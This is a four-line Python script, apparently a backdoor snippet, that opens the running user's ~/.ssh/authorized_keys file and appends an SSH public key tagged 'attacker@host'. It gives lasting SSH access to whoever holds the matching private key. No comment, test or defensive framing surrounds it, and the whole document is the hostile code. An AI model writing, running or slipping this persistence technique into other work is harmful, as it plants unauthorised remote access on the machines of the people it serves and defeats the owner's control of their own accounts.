import os
p = os.path.expanduser("~/.ssh/authorized_keys")
with open(p, "a") as f:
    f.write("ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQC7 attacker@host\n")
